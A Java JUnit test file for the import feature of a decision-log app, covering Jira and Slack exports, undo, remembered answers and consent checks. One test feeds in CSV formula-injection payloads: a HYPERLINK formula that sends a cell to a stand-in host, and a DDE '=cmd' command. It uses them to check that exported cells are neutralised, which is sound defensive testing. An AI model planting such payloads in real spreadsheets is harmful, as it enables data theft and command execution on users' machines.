package app.counterpoint.intake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.mockito.Mockito.verify;
import static org.mockito.Mockito.when;

import app.counterpoint.decision.Decision;
import app.counterpoint.decision.DecisionKeys;
import app.counterpoint.decision.DecisionSheet;
import app.counterpoint.decision.Decisions;
import app.counterpoint.decision.Outcome;
import app.counterpoint.exchange.Exchanges;
import app.counterpoint.exchange.Statement;
import app.counterpoint.intake.reader.Person;
import app.counterpoint.intake.reader.Question;
import app.counterpoint.intake.reader.Source;
import app.counterpoint.relationship.LanguageSource;
import app.counterpoint.relationship.Relationship;
import app.counterpoint.relationship.Relationships;
import app.counterpoint.shared.RelationshipId;
import app.counterpoint.shared.Seat;
import app.counterpoint.shared.TestClock;
import app.counterpoint.storage.StorageTest;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CancellationException;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.annotation.Import;
import org.springframework.data.domain.PageRequest;
import org.springframework.data.mongodb.core.MongoOperations;
import org.springframework.test.context.bean.override.mockito.MockitoBean;

@StorageTest
@Import(IntakeSlice.class)
class ImportsTest {

    private static final String SAMPLES = "src/test/resources/samples/";
    private static final String JIRA = "jira-csv/day-first-site-dates-people-named-in-summaries.csv";
    private static final String SLACK = "slack-export/leaders-name-others-in-their-words.zip";

    private final RelationshipId id = RelationshipId.random();

    @MockitoBean
    private Relationships relationships;

    @Autowired
    private Imports imports;

    @Autowired
    private Decisions decisions;

    @Autowired
    private Exchanges exchanges;

    @Autowired
    private MongoOperations mongo;

    @Autowired
    private TestClock clock;

    @BeforeEach
    void twoWhoAgree() {
        clock.set("2026-11-23T08:00:00Z");
        are(Pair.agreeing(id, EnumSet.allOf(LanguageSource.class), 0));
    }

    private void are(Relationship pair) {
        when(relationships.get(id)).thenReturn(pair);
        when(relationships.find(id)).thenReturn(Optional.of(pair));
        when(relationships.languageScored(id)).thenReturn(pair.agreement().isActive());
    }

    @Test
    void aTrackersExportAsksForTheMarkTheDayAndTheBringerAndThenStoresEscalations() {
        assertThat(questions(JIRA, Choices.NONE)).containsExactly("escalation-mark");
        var marked = Choices.NONE.answer("escalation-mark", "needs-cpto");
        assertThat(questions(JIRA, marked)).containsExactly("asked-when", "brought-by");
        var said = marked.answer("asked-when", "updated").answer("brought-by", "reporter");

        var done = imports.apply(seen(JIRA, said), Seat.CPTO);

        assertThat(done.stored()).isEqualTo(2);
        assertThat(log())
                .extracting(Decision::question, Decision::outcome, Decision::broughtBy, Decision::concludedAt)
                .containsExactlyInAnyOrder(
                        org.assertj.core.groups.Tuple.tuple(
                                "Let … pick the queue?", Outcome.ESCALATED_BY_ONE, Seat.CTO, noon("2025-04-05")),
                        org.assertj.core.groups.Tuple.tuple(
                                "Keep the v1 API for Olsen's schools?",
                                Outcome.ESCALATED_BY_ONE,
                                Seat.CPO,
                                noon("2025-04-24")));
        imports.undo(done.id());
        assertThat(log()).isEmpty();
    }

    @Test
    void aLaterListConcludesWhatAnEarlierOneHadOpenAndSaysSoBefore() {
        var first = imports.apply(table("Keep the queue?,2025-03-17,open,\nBuy search?,2025-03-18,open,\n"), Seat.CPTO);
        var second = table("Keep the queue?,2025-03-17,settled,2025-03-20\nBuy search?,2025-03-18,open,\n");
        assertThat(second.summary()).last().asString().isEqualTo("1 open decision of the log will be concluded");

        var done = imports.apply(second, Seat.CPTO);

        assertThat(done.stored()).isEqualTo(1);
        assertThat(done.known()).isEqualTo(1);
        assertThat(outcomes()).containsExactly("Buy search? OPEN", "Keep the queue? SETTLED");
        imports.undo(done.id());
        assertThat(outcomes()).containsExactly("Buy search? OPEN", "Keep the queue? OPEN");
        imports.undo(first.id());
        assertThat(log()).isEmpty();
    }

    private Preview table(String rows) {
        var source =
                Source.of("log.csv", ("Question,Raised,Outcome,Decided\n" + rows).getBytes(StandardCharsets.UTF_8));
        return ((Imports.Look.Seen) imports.look(id, source, Choices.NONE)).preview();
    }

    private List<String> outcomes() {
        return log().stream()
                .map(decision -> decision.question() + " " + decision.outcome())
                .sorted()
                .toList();
    }

    /** What was downloaded here comes back as the same decisions: by its own key here, and by its words anywhere else. */
    @Test
    void theDownloadedLogIsReadBackAsTheSameDecisions() {
        var day = LocalDate.parse("2025-03-03");
        var questions = List.of(
                "=HYPERLINK(\"http://e.example/?\"&A1)",
                "+1 on the queue?",
                "-20 % of the budget?",
                "@ 9 or at 10?",
                "'quoted' or not?",
                "one;=2+3",
                "Two, \"three\"; four?",
                "Ümläut — 決定?",
                "Plain?");
        var log = new ArrayList<Decision>();
        for (int i = 0; i < questions.size(); i++) {
            var outcome = Outcome.values()[i % Outcome.values().length];
            log.add(new Decision(
                    i % 2 == 0
                            ? DecisionKeys.ofQuestion(id, questions.get(i), day.plusDays(i))
                            : DecisionKeys.ofExternal(id, "jira", "PAY-" + i),
                    id,
                    questions.get(i),
                    day.plusDays(i),
                    outcome,
                    outcome == Outcome.ESCALATED_BY_ONE ? Seat.CPO : null,
                    outcome == Outcome.OPEN ? null : noon(day.plusDays(i + 3).toString()),
                    i % 3 == 0 ? day.plusDays(30) : null,
                    i % 2 == 0,
                    "=cmd|' /C calc'!A0",
                    null,
                    Set.of(),
                    null,
                    null));
        }
        decisions.addAll(log);
        var file = Source.of("decisions.csv", DecisionSheet.of(log(), Pair.ZONE));

        assertThat(new String(DecisionSheet.of(log, Pair.ZONE), StandardCharsets.UTF_8).split("[,;\n]"))
                .allSatisfy(cell -> assertThat(cell).doesNotMatch("(?s)\"?\\s*[=+@-].*"));
        assertThat(imports.apply(seen(file, Choices.NONE), Seat.CPTO).stored()).isZero();
        log.forEach(decision -> decisions.remove(decision.id()));
        assertThat(imports.apply(seen(file, Choices.NONE), Seat.CPTO).stored()).isEqualTo(log.size());
        assertThat(log())
                .usingRecursiveFieldByFieldElementComparatorIgnoringFields("version", "importId", "positionOfCto")
                .containsExactlyInAnyOrderElementsOf(log);
    }

    @Test
    void whereNeitherLeaderReportedAnIssueItIsAskedOneByOneAndNeverAgain() {
        var csv = Source.of("issues.csv", """
                Summary,Issue key,Status,Reporter,Labels,Created,Updated
                Which queue?,PAY-1,Open,Somebody Else,escalated,2025-03-20,2025-03-21
                Which date?,PAY-2,Open,Somebody Else,escalated,2025-03-20,2025-03-21
                """.getBytes(StandardCharsets.UTF_8));
        var said = Choices.NONE
                .answer("escalation-mark", "escalated")
                .answer("asked-when", "created")
                .answer("brought-by", "reporter");
        var preview = seen(csv, said);
        assertThat(preview.questions())
                .extracting(Question::id)
                .containsExactly("brought-by:PAY-1", "brought-by:PAY-2");

        var answered = said.answer("brought-by:PAY-1", "CTO").answer("brought-by:PAY-2", "both");
        imports.remember(preview, answered);
        imports.apply(seen(csv, answered), Seat.CPTO);

        assertThat(seen(csv, Choices.NONE).questions()).isEmpty();
        assertThat(imports.remembered(id))
                .extracting(RememberedAnswer::question)
                .containsExactlyInAnyOrder("escalation-mark", "asked-when", "brought-by");
    }

    @Test
    void theSameIssueOfTheTablesAndOfTheChangeLogsExportIsOneDecision() {
        var said = Choices.NONE
                .answer("escalation-mark", "escalated")
                .answer("asked-when", "updated")
                .answer("brought-by", "both");
        imports.apply(seen("jira-json/change-log-tells-when-the-label-was-set.json", said), Seat.CPTO);

        var csv = Source.of("jira.csv", """
                Summary,Issue key,Status,Labels,Created,Updated
                Which queue?,PAY-12,Open,escalated,2025-01-26,2025-02-20
                """.getBytes(StandardCharsets.UTF_8));
        assertThat(imports.apply(seen(csv, said), Seat.CPTO).stored()).isZero();
        assertThat(log()).hasSize(1).first().extracting(Decision::concludedAt).isEqualTo(noon("2025-02-03"));
    }

    @Test
    void aRememberedAnswerIsShownAndCanBeGivenAnewOrForgotten() {
        var said = Choices.NONE.answer("escalation-mark", "needs-cpto");
        imports.remember(seen(JIRA, said), said);

        var next = seen(JIRA, Choices.NONE);
        assertThat(next.recalled())
                .extracting(RememberedAnswer::words)
                .containsExactly("An escalation is marked by: needs-cpto");
        assertThat(next.questions()).extracting(Question::id).doesNotContain("escalation-mark");
        assertThat(questions(JIRA, Choices.NONE.answer("escalation-mark", ""))).contains("escalation-mark");

        imports.forget(imports.remembered(id).getFirst());
        assertThat(questions(JIRA, Choices.NONE)).contains("escalation-mark");
    }

    @Test
    void columnsAreRememberedForTablesOfTheSameHeadingsAlone() {
        var sample = "decisions-csv/columns-with-unknown-names.csv";
        assertThat(questions(sample, Choices.NONE)).containsExactly("column:question", "column:raised");
        var said = Choices.NONE.answer("column:question", "#2").answer("column:raised", "#1");
        imports.remember(seen(sample, said), said);

        var again = seen(sample, Choices.NONE);
        assertThat(again.questions()).extracting(Question::id).doesNotContain("column:question", "column:raised");
        assertThat(again.layout().columns())
                .filteredOn(match -> match.column() > 0)
                .extracting("question", "column")
                .contains(
                        org.assertj.core.groups.Tuple.tuple("column:question", 2),
                        org.assertj.core.groups.Tuple.tuple("column:raised", 1));
        var other =
                Source.of("x.csv", "when,matter,fate\n2025-03-20,Which queue?,open\n".getBytes(StandardCharsets.UTF_8));
        assertThat(seen(other, Choices.NONE).recalled()).isEmpty();
    }

    @Test
    void aColumnCanBeSaidToTellNothing() {
        var csv = Source.of("d.csv", """
                date,question,outcome,owner
                2025-03-20,Which queue?,escalated,CTO
                """.getBytes(StandardCharsets.UTF_8));
        assertThat(seen(csv, Choices.NONE).questions()).isEmpty();
        assertThat(seen(csv, Choices.NONE.answer("column:brought", "-")).questions())
                .extracting(Question::id)
                .containsExactly("brought-by:2");
    }

    @Test
    void ofAChatTheChannelsAreAskedAndOnlyThreadsOfBothAreScored() {
        var asking = seen(SLACK, Choices.NONE);
        assertThat(asking.questions()).singleElement().satisfies(question -> {
            assertThat(question.several()).isTrue();
            assertThat(question.choices()).extracting(Question.Choice::value).containsExactly("leads");
        });
        assertThat(asking.people())
                .as("nobody is met before a channel is chosen")
                .isEmpty();

        var preview = seen(SLACK, Choices.NONE.answer("channels", "leads"));
        var done = imports.apply(preview, Seat.CPTO);

        assertThat(done.stored()).isGreaterThanOrEqualTo(2);
        clock.advance(Duration.ofHours(25));
        assertThat(statements())
                .extracting(Statement::seat)
                .contains(Seat.CTO, Seat.CPO)
                .doesNotContain(Seat.CPTO);
        assertThat(statements()).extracting(Statement::text).containsOnlyNulls();
        assertThat(imports.apply(seen(SLACK, Choices.NONE.answer("channels", "leads")), Seat.CPTO)
                        .stored())
                .isZero();
    }

    @Test
    void aPersonOfAChatIsRememberedByNameAddressAndId() {
        var asked = Choices.NONE.answer("channels", "leads");
        var canary = new Person("Canaria Vogelsang", "canaria.vogelsang@example.com", "U0CANARY");
        var placed = asked.place(canary, Optional.of(Seat.CPTO));
        assertThat(seen(SLACK, placed).people())
                .filteredOn(found -> found.person().equals(canary))
                .extracting(PersonFound::seat)
                .containsExactly(Seat.CPTO);

        imports.remember(seen(SLACK, placed), placed);

        verify(relationships)
                .remember(id, Seat.CPTO, Set.of("Canaria Vogelsang", "canaria.vogelsang@example.com", "u0canary"));
    }

    @Test
    void withoutTheAgreementAChatIsRefusedAndNothingIsRead() {
        are(Pair.silent(id));
        assertThat(refused(SLACK))
                .startsWith("This is an export of a chat. Wording is scored only while both leaders agree");

        are(Pair.agreeing(id, Set.of(LanguageSource.TRANSCRIPTS), 0));
        assertThat(refused(SLACK)).contains("did not agree to a chat as a source");
    }

    @Test
    void whoeverHasNoSeatYetIsSentToThePageOfPeopleBeforeThatOfTheAgreement() {
        are(Pair.unseated(id));
        assertThat(refused(SLACK)).contains("Say first on the page “People” who sits in the two seats");

        are(Pair.silent(id));
        assertThat(refused(SLACK)).contains("They can on the page “Agreement”").doesNotContain("People");
    }

    @Test
    void howADecisionRecordWasSettledIsAskedOncePerRecord() {
        var sample = "decision-records/madr-nygard-and-proposed.zip";
        assertThat(questions(sample, Choices.NONE)).containsExactly("outcome:0007-one-queue", "outcome:0008-retire-v1");
        var said = Choices.NONE.answer("outcome:0007-one-queue", "settled").answer("outcome:0008-retire-v1", "CTO");
        imports.apply(seen(sample, said), Seat.CPTO);

        assertThat(log())
                .extracting(Decision::outcome)
                .containsExactlyInAnyOrder(Outcome.SETTLED, Outcome.ESCALATED_BY_ONE, Outcome.OPEN);
        assertThat(questions(sample, Choices.NONE)).isEmpty();
    }

    @Test
    void anImportThatWasKilledHalfWayIsListedAndCanBeTakenBack() {
        var csv = Source.of("d.csv", "date,question\n2025-03-20,Which queue?\n".getBytes(StandardCharsets.UTF_8));
        var preview = seen(csv, Choices.NONE);
        var done = imports.apply(preview, Seat.CPTO);
        assertThat(done.isUnfinished()).isFalse();
        mongo.save(done.begun()); // as it stands in the list while its facts are being stored

        assertThat(imports.history(id, PageRequest.of(0, 9)))
                .singleElement()
                .matches(ImportRecord::isUnfinished)
                .matches(ImportRecord::holds);
        assertThat(imports.isKnown(seen(csv, Choices.NONE))).isFalse();

        imports.undo(done.id());

        assertThat(log()).isEmpty();
        assertThat(imports.history(id, PageRequest.of(0, 9))).noneMatch(ImportRecord::isUnfinished);
    }

    @Test
    void aReadingThatIsCancelledEndsAndLeavesNothing() {
        var progress = new Progress();
        var endless = Source.of("endless.csv", () -> new InputStream() {
            private long at;

            @Override
            public int read() {
                if (++at == 3_000_000) {
                    progress.cancel();
                }
                return "date,question\n".charAt((int) (at % 14));
            }
        });

        assertThatThrownBy(() -> imports.look(id, endless, Choices.NONE, progress))
                .isInstanceOf(CancellationException.class);
        assertThat(progress.bytes()).isPositive();
        assertThat(imports.history(id, PageRequest.of(0, 9))).isEmpty();
    }

    private List<String> questions(String sample, Choices choices) {
        return seen(sample, choices).questions().stream().map(Question::id).toList();
    }

    private Preview seen(String sample, Choices choices) {
        return seen(Source.of(Path.of(SAMPLES + sample)), choices);
    }

    private Preview seen(Source source, Choices choices) {
        return switch (imports.look(id, source, choices)) {
            case Imports.Look.Seen(var preview) -> preview;
            case Imports.Look.Refused(var format, var reason) -> throw new AssertionError(format + ": " + reason);
        };
    }

    private String refused(String sample) {
        return imports.look(id, Source.of(Path.of(SAMPLES + sample)), Choices.NONE)
                        instanceof Imports.Look.Refused(var _, var reason)
                ? reason
                : "";
    }

    private List<Decision> log() {
        return decisions.rows(id, PageRequest.of(0, 50)).getContent();
    }

    private List<Statement> statements() {
        return exchanges.between(id, Instant.parse("2025-01-01T00:00:00Z"), clock.instant());
    }

    private static Instant noon(String day) {
        return java.time.LocalDate.parse(day).atTime(12, 0).atZone(Pair.ZONE).toInstant();
    }
}
